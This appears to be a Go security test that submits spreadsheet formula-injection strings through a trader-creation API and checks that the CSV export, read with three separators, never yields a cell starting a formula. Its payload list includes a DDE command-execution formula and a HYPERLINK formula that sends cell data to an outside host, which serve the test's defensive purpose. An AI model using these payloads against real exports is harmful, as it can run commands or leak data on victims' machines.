package attack_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"github.com/assayhq/assay/test/deploytest"
)

// formulaBegin matches the beginning of a text that some spreadsheet takes for a
// formula, in the language of some user.
var formulaBegin = regexp.MustCompile(`^[=+\-@\t\r\n＝＋－＠]`)

// attackFormulas puts formulas into every text of a trader that people can enter, and
// reads the export as spreadsheets do that expect commas, semicolons or tabs.
func attackFormulas(t *testing.T, s *site, size int) string {
	t.Helper()
	formulas := []string{
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1)`, `=HYPERLINK("https://example.com/?"&A1,"x")`, `=cmd|' /C calc'!A0`, `＝1+1`, `＋1`, `－1`, `＠SUM(1)`,
		`Zoe;=1+1`, `Zoe,=1+1`, `Zoe";=1+1;"`, `Zoe","=1+1`, `Zoe;＝1+1`, `Zoe; @SUM(1)`, `;;+1`,
	}
	for n := range size {
		formula := formulas[n%len(formulas)]
		if n >= len(formulas) {
			formula = []string{"Zoe", "Zoe;", "Zoe,", `"`, `";`}[s.IntN(5)] + []string{"=", "+", "-", "@", "＝"}[s.IntN(5)] + "1+A" + fmt.Sprint(s.IntN(100))
		}
		body, err := json.Marshal(map[string]any{"full_name": formula, "phone": "+15550100", "tags": []string{strings.ReplaceAll(formula, ",", " ")}})
		check(t, err)
		req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.URL+"/v1/traders", bytes.NewReader(body))
		check(t, err)
		req.Header.Set("Authorization", "Bearer "+s.keys[n%len(s.keys)])
		req.Header.Set("Content-Type", "application/json")
		if status, text := deploytest.Send(req); status != http.StatusCreated {
			t.Fatalf("%s: %d %s", body, status, text)
		}
	}
	status, text := deploytest.Get(t.Context(), s.URL+"/v1/traders/export", s.Key)
	if status != http.StatusOK {
		t.Fatalf("export: %d", status)
	}
	cells := 0
	for _, comma := range []rune{',', ';', '\t'} {
		r := csv.NewReader(bytes.NewReader(text))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
		table, err := r.ReadAll()
		check(t, err)
		for _, row := range table {
			for _, cell := range row {
				if cells++; formulaBegin.MatchString(strings.TrimLeft(cell, " ")) {
					t.Errorf("separated by %q, a cell begins a formula: %q", comma, cell)
				}
			}
		}
	}
	return fmt.Sprintf("%d cells read with three separators, no formula", cells)
}
